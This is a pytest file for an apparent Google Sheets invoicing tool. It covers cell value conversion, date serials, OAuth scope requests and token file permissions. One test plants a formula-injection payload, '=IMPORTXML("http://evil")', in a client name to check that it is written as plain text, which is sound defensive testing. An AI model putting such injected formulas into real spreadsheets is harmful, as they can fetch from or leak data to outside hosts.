"""Cell values to and from the Sheets API: decimals from the answer's own
digits, dates by column, text always text; and the sign-in's scopes."""

from __future__ import annotations

import json
import stat
from datetime import date, datetime
from decimal import Decimal

from sheetbill.google import auth as google_auth
from sheetbill.book.google import values
from sheetbill.book.markers import CellError

from .conftest import session
from .google_practice import GooglePractice, google_practice  # noqa: F401  (fixture)

pytest_plugins = ["tests.conftest_google"]


def test_numbers_are_decimals_from_their_digits():
    answer = json.loads('{"effectiveValue": {"numberValue": 6.9000000000000004}}', parse_float=Decimal)
    assert values.read(answer) == Decimal("6.9000000000000004")  # rounded to 15 digits by book.cells, not here
    assert values.read({"effectiveValue": {"numberValue": 46000}}) == Decimal(46000)
    assert values.read({"effectiveValue": {"stringValue": ""}}) is None
    assert values.read({"effectiveValue": {"errorValue": {"type": "DIVIDE_BY_ZERO"}}}) == CellError("#DIV/0!")


def test_serial_numbers_in_date_columns_become_dates():
    rows = [(2, (Decimal(46329), Decimal("46329.5"), Decimal(7)))]
    assert values.dates(rows, {0: "date", 1: "datetime"}) == [
        (2, (date(2026, 11, 3), datetime(2026, 11, 3, 12, 0), Decimal(7)))]
    assert values.serial(date(2026, 11, 3)) == 46329


def test_written_values_keep_their_kind():
    assert values.cell("text", "=HYPERLINK(\"x\")") == ({"userEnteredValue": {"stringValue": "=HYPERLINK(\"x\")"}},
                                                        False)
    money, formatted = values.cell("money", Decimal("65.50"))
    assert money["userEnteredValue"] == {"numberValue": 65.5} and formatted
    assert money["userEnteredFormat"]["numberFormat"]["pattern"] == "#,##0.00"
    day, _ = values.cell("date", date(2026, 11, 21))
    assert day["userEnteredValue"] == {"numberValue": 46347.0}
    assert values.cell("text", None) == ({}, False)


def test_formula_like_client_text_reaches_the_sheet_as_text(google_practice: GooglePractice):
    p = google_practice
    p.append("Clients", ["C-666", "x", "c@example.com", "Street", None, 14, None, None])
    sheet = p.sheet("Clients")
    from tests.fakegoogle.cells import Cell

    with p.fake.state.lock:  # the admin typed it with a leading apostrophe: text
        sheet.put(sheet.used_rows() - 1, 1, Cell("=IMPORTXML(\"http://evil\")"))
    p.append("Sessions", session("S-00001", "2026-11-02", client="C-666"))
    p.configure("transport: gmail", "transport: none")
    assert p.run().created == ["INV-2026-0001"]
    invoices = p.sheet("Invoices")
    name = next(invoices.cell(1, c) for c in range(invoices.col_count)
                if invoices.cell(0, c) and invoices.cell(0, c).value == "Client Name")
    assert name.value == "=IMPORTXML(\"http://evil\")" and name.formula is None


def test_amounts_written_back_read_the_same(google_practice: GooglePractice):
    p = google_practice
    p.append("Sessions", session("S-00001", "2026-11-02", extras="GEL x3"))
    p.configure("transport: gmail", "transport: none")
    p.run()
    lines = p.rows("Lines")
    assert [line["Total"] for line in lines] == ["65.00", "24.63"]
    assert p.values("Invoices", "UNFORMATTED_VALUE")[1][8] == 89.63


def test_the_sign_in_asks_for_the_narrow_scopes_and_keeps_the_token_private(tmp_path, monkeypatch):
    asked = {}

    class Flow:
        @classmethod
        def from_client_secrets_file(cls, path, scopes):
            asked["scopes"] = scopes
            return cls()

        def run_local_server(self, port, open_browser):
            return type("Credentials", (), {"to_json": lambda self: '{"token": "t"}', "account": "me@example.com"})()

    monkeypatch.setattr("google_auth_oauthlib.flow.InstalledAppFlow", Flow)
    secrets = tmp_path / "client_secret.json"
    secrets.write_text("{}")
    target = tmp_path / "creds" / "google.json"
    assert google_auth.sign_in(secrets, google_auth.scopes(gmail=True, service_account=False), target) == \
        "me@example.com"
    assert asked["scopes"] == ["https://www.googleapis.com/auth/spreadsheets",
                               "https://www.googleapis.com/auth/drive.file",
                               "https://www.googleapis.com/auth/gmail.send",
                               "https://www.googleapis.com/auth/gmail.readonly"]
    assert stat.S_IMODE(target.stat().st_mode) == 0o600
    assert google_auth.scopes(gmail=False, service_account=True)[1] == "https://www.googleapis.com/auth/drive"
